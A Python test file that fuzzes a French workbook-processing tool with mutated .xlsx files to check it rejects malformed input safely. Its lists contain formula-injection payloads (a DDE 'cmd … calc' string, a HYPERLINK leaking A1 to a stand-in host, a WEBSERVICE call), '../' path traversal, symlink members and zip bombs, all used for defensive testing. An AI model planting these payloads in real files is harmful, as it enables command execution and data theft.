"""A seeded mutational fuzzer over real workbooks, and the properties every input must keep.

Seeds are real Carbon'Clap workbooks (the two shipped examples and one made from the
template). Each case applies one to three random mutations, drawn from three families:

- zip structure: truncation, flipped bytes, dropped / duplicated / reordered / renamed
  members, a member whose stream holds more (or less) than it declares, a symbolic-link
  member, a member compressed 200 times, everything stored;
- XML bytes of a part: slices deleted or repeated, random tags inserted (rows, cells, merges,
  formulas, DOCTYPE, deep nesting), reference attributes changed, bytes flipped;
- cell values: numbers, types and texts replaced by awkward ones (NaN, 1e-320, 32,767
  characters, formulas, control characters).

Properties checked for every case (``check_cases``):

1. no traceback: ``process`` exits 0, 1 or 2 with one French line, ``validate`` reports
   ok / errors / a rejection code (never INTERNAL_ERROR, TIMEOUT, MEMORY, WORKER_CRASHED);
2. the same verdict from both (rejection code, or errors / ok);
3. bounded: each ``process`` under ``MAX_SECONDS`` and ``MAX_PEAK_MB`` (its peak RSS), the
   ``validate`` parent under ``MAX_PEAK_MB`` for the whole batch;
4. no formula from the input's text: the output workbook holds no formula its input did not
   hold, every text cell of the ``--csv`` summary is spreadsheet-safe;
5. files: the input is never modified; the output is complete (a valid zip our own gate
   accepts) or absent; no temporary is left.

Run with ``FUZZ_CASES=2000 FUZZ_SEED=7 python -m pytest tests/test_fuzz.py -s``; a failing
case is replayed alone with ``FUZZ_ONLY=<index>`` and the same seed.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import random
import re
import shutil
import struct
import time
import traceback
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests import hostile_corpus as hc

MAX_SECONDS = 30.0
MAX_PEAK_MB = 1_000.0
EXAMPLES = Path(__file__).resolve().parent.parent / "workbook" / "examples"
TRIGGERS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
BAD_CODES = {"INTERNAL_ERROR", "TIMEOUT", "MEMORY", "WORKER_CRASHED", "REPORT_TOO_LARGE"}

NUMBERS = ["NaN", "nan", "inf", "-inf", "1e308", "1e-320", "-1", "0", "1e999", "", "abc",
           "99999999999999999999", "1,5", " 12 ", "TRUE", "4.9e-324", "0x10", "1_000"]
TEXTS = ['=HYPERLINK("http://exemple.invalid/?f="&A1;"clic")', "+cmd|' /C calc'!A0",
         "@SOMME(1)", "-2+3", "\t=1", "＝1+1", "é" * 40, "x" * 32_767, "\x1b[31mrouge\x07",
         "a\u202eb", "Lieux", "elec_fr", "BE:14015", "kWh", "L", "NaN", "   ", "\u00a0=1",
         "ligne\nnouvelle", "<b>", "&amp;", "_x0041_"]
REFS = ["A0", "A1048577", "XFD1", "XFE1", "ZZZZ9", "-1", "", "a5", "$B$7", "B 7", "AAA99999",
        "A5:A3", "N100000", "O5"]


@dataclass
class Case:
    index: int
    seed: str
    mutations: list[str]
    path: Path


@dataclass
class Figures:
    cases: int = 0
    worst_process_s: float = 0.0
    worst_process_mb: float = 0.0
    validate_s: float = 0.0
    validate_parent_mb: float = 0.0
    verdicts: dict[str, int] = field(default_factory=dict)
    failures: list[str] = field(default_factory=list)


# --- seeds --------------------------------------------------------------------------------------


def seeds(directory: Path) -> dict[str, bytes]:
    found = {p.name: p.read_bytes() for p in sorted(EXAMPLES.glob("*.xlsx"))}
    found["modele.xlsx"] = hc.carbonclap_bytes(directory)
    return found


# --- zip helpers --------------------------------------------------------------------------------


def _members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    from carbonclap_xl.xlsx.zipread import read_member  # bounded: a lying member raises

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i, read_member(zf, i)) for i in zf.infolist()]


def _zip(members: list[tuple[zipfile.ZipInfo | str, bytes]], stored: bool = False) -> bytes:
    out = io.BytesIO()
    import warnings

    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as zf, \
            warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for info, content in members:
            if isinstance(info, zipfile.ZipInfo):
                copy = zipfile.ZipInfo(info.filename, info.date_time)
                copy.external_attr, copy.create_system = info.external_attr, info.create_system
                copy.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
                zf.writestr(copy, content)
            else:
                zf.writestr(info, content)
    return out.getvalue()


def _xml_members(members: list[tuple[zipfile.ZipInfo, bytes]]) -> list[int]:
    return [i for i, (info, _c) in enumerate(members)
            if info.filename.endswith((".xml", ".rels"))]


def _pick_xml(rnd: random.Random, members: list[tuple[zipfile.ZipInfo, bytes]]) -> int:
    """A random XML part, sheets and shared strings three times as likely."""
    weighted = []
    for i in _xml_members(members):
        name = members[i][0].filename
        weight = 3 if ("worksheets/" in name or "sharedStrings" in name) else 1
        weighted += [i] * weight
    return rnd.choice(weighted)


# --- mutations: zip structure -------------------------------------------------------------------

Mutation = Callable[[random.Random, bytes], bytes]


def truncate(rnd: random.Random, data: bytes) -> bytes:
    return data[: rnd.randrange(1, len(data))]


def flip_bytes(rnd: random.Random, data: bytes) -> bytes:
    raw = bytearray(data)
    for _ in range(rnd.randint(1, 20)):
        raw[rnd.randrange(len(raw))] ^= 1 << rnd.randrange(8)
    return bytes(raw)


def drop_member(rnd: random.Random, data: bytes) -> bytes:
    members = _members(data)
    del members[rnd.randrange(len(members))]
    return _zip(members)


def duplicate_member(rnd: random.Random, data: bytes) -> bytes:
    members = _members(data)
    members.append(rnd.choice(members))
    return _zip(members)


def shuffle_members(rnd: random.Random, data: bytes) -> bytes:
    members = _members(data)
    rnd.shuffle(members)
    return _zip(members)


def rename_member(rnd: random.Random, data: bytes) -> bytes:
    members = _members(data)
    i = rnd.randrange(len(members))
    name = members[i][0].filename
    new = rnd.choice([name.upper(), "../" + name, "/" + name, name.replace("/", "\\"),
                      name + "x", name.replace("xl/", "XL/")])
    members[i] = (new, members[i][1])  # type: ignore[assignment]
    return _zip(members)  # type: ignore[arg-type]


def lie_about_size(rnd: random.Random, data: bytes) -> bytes:
    members = _members(data)
    name = rnd.choice(members)[0].filename
    if rnd.random() < 0.5:
        return hc.lying_zip(data, {name: rnd.randint(1, 300)})
    size = len(dict((i.filename, c) for i, c in members)[name])
    return hc.lying_zip(data, {}, declare={name: max(0, size + rnd.choice([-100, -1, 1, 5000]))})


def symlink_member(rnd: random.Random, data: bytes) -> bytes:
    members = _members(data)
    info, _content = members[rnd.randrange(len(members))]
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return _zip(members)


def stored(rnd: random.Random, data: bytes) -> bytes:
    return _zip(_members(data), stored=True)


def add_bomb(rnd: random.Random, data: bytes) -> bytes:
    members = _members(data)
    members.append(("xl/media/vide.bin", b"\0" * rnd.choice([2, 20, 60]) * 2**20))  # type: ignore[arg-type]
    return _zip(members)  # type: ignore[arg-type]


# --- mutations: XML bytes -----------------------------------------------------------------------


def _edit_xml(rnd: random.Random, data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    members = _members(data)
    i = _pick_xml(rnd, members)
    members[i] = (members[i][0], edit(members[i][1]))
    return _zip(members)


def _tag_positions(xml: bytes) -> list[int]:
    return [m.start() for m in re.finditer(rb"<(?![?!/])", xml)] or [0]


def xml_delete_slice(rnd: random.Random, data: bytes) -> bytes:
    def edit(xml: bytes) -> bytes:
        a = rnd.randrange(len(xml) or 1)
        return xml[:a] + xml[a + rnd.randint(1, 200):]
    return _edit_xml(rnd, data, edit)


def xml_repeat_slice(rnd: random.Random, data: bytes) -> bytes:
    def edit(xml: bytes) -> bytes:
        tags = _tag_positions(xml)
        a = rnd.choice(tags)
        b = min(len(xml), a + rnd.randint(10, 400))
        return xml[:b] + xml[a:b] * rnd.randint(1, 50) + xml[b:]
    return _edit_xml(rnd, data, edit)


def _snippet(rnd: random.Random) -> bytes:
    row = rnd.choice([0, 1, 5, 7, 100_001, 200_001, 1_048_576])
    ref = rnd.choice([*REFS, f"B{row}", f"A{row}"])
    value = rnd.choice(NUMBERS)
    return rnd.choice([
        f'<row r="{row}"/>', f'<row r="{row}"><c r="{ref}"><v>{value}</v></c></row>',
        f'<c r="{ref}"><v>{value}</v></c>',
        f'<c r="{ref}" t="s"><v>{rnd.randint(0, 10**6)}</v></c>',
        f'<mergeCells count="1"><mergeCell ref="{ref}:{rnd.choice(REFS)}"/></mergeCells>',
        '<c r="B7"><f>WEBSERVICE("http://exemple.invalid")</f></c>',
        "<c r=\"A7\"><f>cmd|' /C calc'!A0</f><v>1</v></c>",
        '<!DOCTYPE x [<!ENTITY a "b">]>', "<r>" * 300 + "<t>x</t>" + "</r>" * 300,
        f'<c r="{ref}" t="inlineStr"><is><t>{rnd.choice(TEXTS[:8])}</t></is></c>',
        '<dimension ref="A1:XFD1048576"/>', "<x:c xmlns:x=\"urn:x\" r=\"ALM3\"/>",
    ]).encode("utf-8", "replace")


def xml_insert(rnd: random.Random, data: bytes) -> bytes:
    def edit(xml: bytes) -> bytes:
        at = rnd.choice(_tag_positions(xml))
        return xml[:at] + _snippet(rnd) + xml[at:]
    return _edit_xml(rnd, data, edit)


def xml_attribute(rnd: random.Random, data: bytes) -> bytes:
    def edit(xml: bytes) -> bytes:
        spots = list(re.finditer(rb'\b(r|ref|sqref|count|s|t)="[^"]*"', xml))
        if not spots:
            return xml
        m = rnd.choice(spots)
        new = rnd.choice([*REFS, "0", "-1", "99999999999", "inlineStr", "x"]).encode()
        return xml[:m.start()] + m.group(1) + b'="' + new + b'"' + xml[m.end():]
    return _edit_xml(rnd, data, edit)


def xml_flip(rnd: random.Random, data: bytes) -> bytes:
    return _edit_xml(rnd, data, lambda xml: flip_bytes(rnd, xml) if xml else xml)


# --- mutations: cell values ---------------------------------------------------------------------


def cell_value(rnd: random.Random, data: bytes) -> bytes:
    def edit(xml: bytes) -> bytes:
        spots = list(re.finditer(rb"<v>[^<]*</v>", xml))
        if not spots:
            return xml
        m = rnd.choice(spots)
        return xml[:m.start()] + b"<v>" + rnd.choice(NUMBERS).encode() + b"</v>" + xml[m.end():]
    return _edit_xml(rnd, data, edit)


def cell_type(rnd: random.Random, data: bytes) -> bytes:
    def edit(xml: bytes) -> bytes:
        spots = list(re.finditer(rb'<c r="[A-Z]+[0-9]+"( t="[^"]*")?', xml))
        if not spots:
            return xml
        m = rnd.choice(spots)
        kind = rnd.choice([b"s", b"str", b"inlineStr", b"b", b"e", b"n", b"d"])
        end = m.end(1) if m.group(1) else m.end()
        start = m.start(1) if m.group(1) else m.end()
        return xml[:start] + b' t="' + kind + b'"' + xml[end:]
    return _edit_xml(rnd, data, edit)


def cell_text(rnd: random.Random, data: bytes) -> bytes:
    def edit(xml: bytes) -> bytes:
        spots = list(re.finditer(rb"<t(?: [^>]*)?>[^<]*</t>", xml))
        if not spots:
            return xml
        m = rnd.choice(spots)
        text = rnd.choice(TEXTS).replace("&", "&amp;").replace("<", "&lt;")
        text = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda c: f"_x{ord(c.group()):04X}_", text)
        return xml[:m.start()] + b"<t>" + text.encode() + b"</t>" + xml[m.end():]
    return _edit_xml(rnd, data, edit)


MUTATIONS: dict[str, Mutation] = {f.__name__: f for f in (
    truncate, flip_bytes, drop_member, duplicate_member, shuffle_members, rename_member,
    lie_about_size, symlink_member, stored, add_bomb, xml_delete_slice, xml_repeat_slice,
    xml_insert, xml_attribute, xml_flip, cell_value, cell_type, cell_text)}
# cell and XML mutations keep most workbooks readable, so the later stages get exercised too
WEIGHTS = {name: (1 if name in ("truncate", "flip_bytes", "stored", "shuffle_members",
                                 "xml_flip", "xml_delete_slice") else
                  6 if name.startswith("cell_") else
                  3 if name in ("xml_insert", "xml_attribute", "lie_about_size") else 2)
           for name in MUTATIONS}


def make_cases(directory: Path, count: int, seed: int, only: int | None = None) -> list[Case]:
    bases = seeds(directory)
    names = list(MUTATIONS)
    weights = [WEIGHTS[n] for n in names]
    cases = []
    for index in range(count):
        if only is not None and index != only:
            continue
        rnd = random.Random(f"{seed}-{index}")
        base = rnd.choice(sorted(bases))
        data, applied = bases[base], []
        for name in rnd.choices(names, weights, k=rnd.choice([1, 1, 2, 3])):
            try:
                data = MUTATIONS[name](rnd, data)
            except (zipfile.BadZipFile, zlib.error, ValueError, KeyError, IndexError, EOFError,
                    OSError, NotImplementedError, RuntimeError, struct.error):
                continue  # an earlier mutation broke the zip: this one does not apply
            applied.append(name)
        path = directory / f"cas-{index:05d}.xlsx"
        path.write_bytes(data)
        cases.append(Case(index, base, applied, path))
    return cases


# --- properties ---------------------------------------------------------------------------------


def _reset_peak() -> bool:
    try:
        Path("/proc/self/clear_refs").write_text("5")
        return True
    except OSError:
        return False


def _peak_mb() -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return float("nan")


def _sheet_formulas(path: Path) -> dict[tuple[str, str], str]:
    from carbonclap_xl.xlsx.package import sheet_parts
    from carbonclap_xl.xlsx.sheetscan import scan_sheet

    found: dict[tuple[str, str], str] = {}
    with zipfile.ZipFile(path) as zf:
        for sheet, part in sheet_parts(zf).items():
            try:
                formulas = scan_sheet(zf.read(part)).formulas
            except Exception:  # a sheet the fuzzer broke and process never reads
                continue
            found.update({(sheet, ref): text for ref, text in formulas.items()})
    return found


def _foreign_formulas_added(src: Path, out: Path) -> list[str]:
    """Formulas ``process`` wrote that are not the live formulas of the cells it owns
    (``workbook.formulas.is_ours`` at the workbook's own layout)."""
    from carbonclap_xl.workbook.formulas import is_ours
    from carbonclap_xl.xlsx.files import read_file

    layout = read_file(out).layout
    before = _sheet_formulas(src)
    return [f"{sheet}!{ref}" for (sheet, ref), text in _sheet_formulas(out).items()
            if before.get((sheet, ref)) != text and not is_ours(sheet, ref, text, layout)]


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _process(case: Case, work: Path, figures: Figures) -> str:
    """Run ``process`` on one case in this process; its verdict; failures noted."""
    from carbonclap_xl.cli import main
    from carbonclap_xl.validation.safety import inspect_package

    folder = work / f"p{case.index:05d}"
    folder.mkdir()
    out, report = folder / "sortie.xlsx", folder / "r.json"
    before = _digest(case.path)
    stderr = io.StringIO()
    measured = _reset_peak()
    started = time.monotonic()
    with contextlib.redirect_stderr(stderr), contextlib.redirect_stdout(io.StringIO()):
        try:
            code = main(["process", str(case.path), "-o", str(out), "--json", str(report)])
        except SystemExit as exc:
            code = int(exc.code or 0)
        except BaseException:  # a traceback is the failure this looks for
            figures.failures.append(f"{_name(case)} : traceback de process\n"
                                    + traceback.format_exc())
            return "traceback"
    seconds = time.monotonic() - started
    figures.worst_process_s = max(figures.worst_process_s, seconds)
    if measured:
        figures.worst_process_mb = max(figures.worst_process_mb, _peak_mb())
    problems = []
    if seconds > MAX_SECONDS:
        problems.append(f"process a pris {seconds:.1f} s")
    if measured and _peak_mb() > MAX_PEAK_MB:
        problems.append(f"process a culminé à {_peak_mb():.0f} Mo")
    if _digest(case.path) != before:
        problems.append("l'entrée a été modifiée")
    if [p.name for p in folder.iterdir() if p.name.startswith(".carbonclap-")]:
        problems.append("temporaires laissés")
    err = stderr.getvalue()
    if code == 2:
        verdict = err.strip().splitlines()[-1] if err.strip() else ""
        verdict = verdict[verdict.rfind("[") + 1 : -1] if verdict.endswith("]") else "?"
        if out.exists():
            problems.append("sortie écrite malgré le rejet")
    elif code in (0, 1):
        verdict = ("ok", "errors")[code]
        if out.exists():
            try:
                with zipfile.ZipFile(out) as zf:
                    assert zf.testzip() is None
                inspect_package(out)  # our own output passes our own gate
                foreign = _foreign_formulas_added(case.path, out)
                if foreign:
                    problems.append(f"formules étrangères ajoutées : {foreign[:5]}")
            except Exception as exc:
                problems.append(f"sortie incomplète ou refusée : {type(exc).__name__}: {exc}")
    else:
        verdict = f"exit {code}"
        problems.append(f"code de sortie {code}")
    if problems:
        figures.failures.append(f"{_name(case)} : " + " ; ".join(problems) + "\n" + err[-800:])
    shutil.rmtree(folder, ignore_errors=True)
    return verdict


def _name(case: Case) -> str:
    return f"cas {case.index} ({case.seed} + {', '.join(case.mutations) or 'rien'})"


def check_cases(cases: list[Case], work: Path) -> Figures:
    """Every property on every case; the figures and the failures (empty when all hold)."""
    from carbonclap_xl.cli import main

    figures = Figures(cases=len(cases))
    processed = {case.index: _process(case, work, figures) for case in cases}
    report, summary = work / "validate.json", work / "synthese.csv"
    measured = _reset_peak()
    started = time.monotonic()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
        main(["validate", *(str(c.path) for c in cases), "--jobs", "2", "--json", str(report),
              "--csv", str(summary)])
    figures.validate_s = time.monotonic() - started
    if measured:
        figures.validate_parent_mb = _peak_mb()
        if figures.validate_parent_mb > MAX_PEAK_MB:
            figures.failures.append(f"validate : parent à {figures.validate_parent_mb:.0f} Mo")
    docs = json.loads(report.read_text())["files"]
    for case, doc in zip(cases, docs, strict=True):
        verdict = doc["rejection"]["code"] if doc["status"] == "rejected" else doc["status"]
        figures.verdicts[verdict] = figures.verdicts.get(verdict, 0) + 1
        if verdict in BAD_CODES:
            figures.failures.append(f"{_name(case)} : validate {verdict} "
                                    f"({doc['rejection']['reason']})")
        if verdict != processed[case.index] and processed[case.index] != "traceback":
            figures.failures.append(f"{_name(case)} : process dit {processed[case.index]}, "
                                    f"validate dit {verdict}")
    with open(summary, encoding="utf-8-sig", newline="") as fh:  # excel-fr, the default
        for row in csv.DictReader(fh, delimiter=";"):
            for key, cell in row.items():
                if key.startswith("total_"):
                    continue
                if cell and cell.lstrip(" \u00a0\u3000\ufeff\u200b")[:1] in TRIGGERS:
                    figures.failures.append(f"CSV : {key} = {cell[:80]!r} (formule possible)")
    return figures
